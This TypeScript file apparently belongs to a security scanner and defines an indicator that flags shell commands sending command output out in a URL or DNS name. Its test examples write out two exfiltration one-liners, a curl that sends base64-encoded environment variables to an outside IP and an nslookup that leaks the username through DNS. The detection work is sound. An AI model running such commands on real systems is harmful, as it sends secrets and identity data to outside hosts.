import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** A command's output travels in the request. */
export const cmdOutputInRequest: Indicator = {
  id: 'cmd_output_in_request',
  points: 40,
  hard: true,
  in_strings: true,
  mitre: ['T1048.003', 'T1041'],
  title: 'Command output in a request',
  description:
    'The URL, header, data or queried name is built from the output of env, id, base64, cat and the like: $(env|base64) in a URL, `whoami` in a DNS name.',
  evaluate({ relation }) {
    if (relation?.substitution === undefined) return undefined;
    return {
      evidence: short(relation.substitution),
      why: `the output of ${short(relation.substitution, 120)} travels in its request`,
    };
  },
  examples: {
    fires: [
      { run: `sh -c 'curl "http://203.0.113.9/?d=$(env|base64)"'` },
      { run: "sh -c 'nslookup $(whoami).x.example.net'" },
    ],
    silent: [
      { run: `sh -c 'curl "http://api.example.com/?d=$(date +%s)"'` },
      { run: "sh -c 'nslookup $DB_HOST'" },
    ],
  },
};
